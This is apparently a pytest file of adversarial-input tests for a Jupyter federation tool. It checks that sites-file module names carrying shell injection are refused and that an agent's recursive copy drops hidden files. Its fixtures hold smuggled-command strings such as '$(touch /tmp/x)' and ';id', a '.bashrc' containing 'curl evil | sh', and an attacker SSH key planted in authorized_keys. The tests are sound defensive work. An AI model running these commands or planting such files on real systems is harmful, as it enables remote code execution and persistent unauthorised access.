"""The ninth sweep of hostile inputs, one trust boundary at a time: the gaps the eighth left
(what an approved workflow's steps run beyond the script shown, re-approval from the
command line, a sites file's software names, hidden files a tool call's recursive copy
brings), then new attacks from whoever controls a notebook cell or REST body, a job's
output, a site's answers, another user's names, a colleague's workflow, the center's sites
file, a trace, the environment, the agent's model and an MCP client.

The standard is the earlier sweeps' (tests/test_adversarial_inputs.py and after): bad input
is refused with one line naming what, where and what would be accepted; what comes from a
site, a job or a service is data, never a command, a record, a line of its own or a path
outside its place. Tests of attacks that already failed safely say so ("guard")."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from diamond_jupyter.model import BadInput

pytest_plugins = ("pytest_jupyter.jupyter_server", "server_conftest")


def _sites_file(tmp_path: Path, metadata: dict[str, Any]) -> Path:
    p = tmp_path / "sites.yaml"
    p.write_text(yaml.safe_dump({"sites": [{"name": "alpha", "transport": {"kind": "local"},
                                            "metadata": metadata}]}))
    p.chmod(0o600)
    return p


# -- 1. a sites file's software names -------------------------------------------------------------

@pytest.mark.parametrize("name", ["gcc/12.2$(touch /tmp/x)", "cuda;id", "openmpi/4 1",
                                  "gcc/12`id`", "gcc/'12'", "-f/x", "gcc/12\u200b",
                                  "gcc/1\u0662"])
def test_a_sites_file_software_name_outside_module_characters_is_refused(tmp_path, name):
    """A center's sites file lists software `cuda;id`, `gcc/12.2$(touch FILE)`, a name with
    a zero-width space or an Arabic digit: discovered module names are kept only when made
    of `[A-Za-z0-9_.+-/@%:,=~]`, but the sites file's were taken as written and reached
    each rewritten `module load` line (quoted) and every terminal that shows the site.
    Refused when the file is read, naming the site, the key and the name."""
    from diamond_jupyter.config import load_config

    with pytest.raises(BadInput, match=r"site 'alpha' .*metadata: software: .* is not a "
                                        r"module name \(accepted: ASCII letters"):
        load_config(_sites_file(tmp_path, {"software": [name]}))


def test_a_sites_file_software_name_as_module_avail_prints_it_is_kept(tmp_path):
    """(guard) The names as `module avail` prints them, marks included, still load."""
    from diamond_jupyter.config import load_config

    cfg = load_config(_sites_file(tmp_path, {"software": [
        "GROMACS/2023.3-foss-2023a (D)", "cmake@3.27.9", "intel-oneapi-mpi/2021.10 <L>",
        "py-numpy/1.26+mkl", "tools/a=b,c:d~e%f"]}))
    assert len(cfg.sites[0].metadata["software"]) == 5


# -- 2. a tool call's recursive copy of a job's directory ----------------------------------------

def _rooted_fed(tmp_path: Path) -> Any:
    from diamond_jupyter.config import FederationConfig, SiteConfig, TransportConfig
    from diamond_jupyter.federation import Federation
    from diamond_jupyter.store import Store

    root = tmp_path / "root"
    root.mkdir()
    fed = Federation(FederationConfig(sites=[SiteConfig(
        name="here", transport=TransportConfig(kind="local"), workdir=str(tmp_path / "wd"))]),
        store=Store(tmp_path / "s.sqlite"))
    fed.server_root = root
    return fed


def _job_tree(top: Path) -> None:
    """A job's output directory with hidden entries at every depth."""
    (top / "sub" / ".ssh").mkdir(parents=True)
    (top / "sub" / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
    (top / ".bashrc").write_text("curl evil | sh\n")
    (top / "sub" / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (top / "sub" / ".ipython" / "profile_default" / "startup" / "0.py").write_text("x=1\n")
    (top / "result.csv").write_text("a,b\n")
    (top / "sub" / "data.txt").write_text("d\n")


async def test_a_tool_calls_recursive_copy_leaves_out_hidden_entries_at_any_depth(tmp_path):
    """The model (or an MCP client) copies a job's output directory into a plain directory
    of the server (`results`): the destination is not hidden, so it went on, and the job's
    `.bashrc`, `sub/.ssh/authorized_keys` and `sub/.ipython/.../startup/0.py` arrived with
    it (the server's root being the home, under JupyterHub, a later copy to `.` put them in
    place). A tool call's copy now leaves every hidden entry out, at any depth, each listed
    in `skipped` and said in the result's message; the plan says so too."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    out_dir = tmp_path / "wd" / "run1" / "out"
    out_dir.mkdir(parents=True)
    _job_tree(out_dir)
    args = {"src": f"here:{out_dir}", "dst": "results", "recursive": True}
    try:
        plan = await fed.plan_transfer(args["src"], args["dst"], recursive=True)
        assert "hidden_entries" not in plan  # (the facade's own: the CLI copies what it is told)
        out = await run_skill(SkillContext(fed, approval="auto"), "transfer", args)
    finally:
        await fed.close()
    got = sorted(str(p.relative_to(fed.server_root / "results"))
                 for p in (fed.server_root / "results").rglob("*") if p.is_file())
    assert got == ["result.csv", "sub/data.txt"]
    assert sorted(s.split(":")[0] for s in out.skipped) == [".bashrc", "sub/.ipython/",
                                                            "sub/.ssh/"]
    assert "3 hidden entries left out" in out.message


async def test_a_tool_calls_approved_copy_plan_says_hidden_entries_stay_out(tmp_path):
    """(the same, asked) The plan a person approves says hidden entries are left out, and
    the approved copy leaves them out."""
    from diamond_jupyter.skills import NeedsApproval, SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    out_dir = tmp_path / "wd" / "out"
    out_dir.mkdir(parents=True)
    _job_tree(out_dir)
    args = {"src": f"here:{out_dir}", "dst": "results/", "recursive": True}
    try:
        with pytest.raises(NeedsApproval) as asked:
            await run_skill(SkillContext(fed, approval="ask"), "transfer", args)
        plan = asked.value.plan
        assert "no hidden file or directory" in plan["hidden_entries"]
        await run_skill(SkillContext(fed, approval="ask", approved=plan), "transfer", args)
    finally:
        await fed.close()
    top = fed.server_root / "results" / "out"
    assert sorted(p.name for p in top.rglob("*")) == ["data.txt", "result.csv", "sub"]


@pytest.mark.parametrize("src", [".ssh", ".bashrc"])
async def test_a_tool_calls_copy_of_a_hidden_source_into_a_directory_is_refused(tmp_path, src):
    """`transfer here:JOBDIR/.ssh results/` (or a file `.bashrc` into `results/`) would
    create the hidden name in the destination directory: refused, naming it."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    out_dir = tmp_path / "wd" / "out"
    out_dir.mkdir(parents=True)
    _job_tree(out_dir)
    (out_dir / ".ssh").mkdir()
    (out_dir / ".ssh" / "id").write_text("k\n")
    try:
        out = await run_skill(SkillContext(fed, approval="auto"), "transfer",
                              {"src": f"here:{out_dir}/{src}", "dst": "results/",
                               "recursive": True})
        assert out.transfer["state"] == "FAILED"
        assert "has a hidden name, which a tool call's copy does not create" in \
            out.transfer["error"]
    finally:
        await fed.close()
    assert not list((fed.server_root).rglob(src))
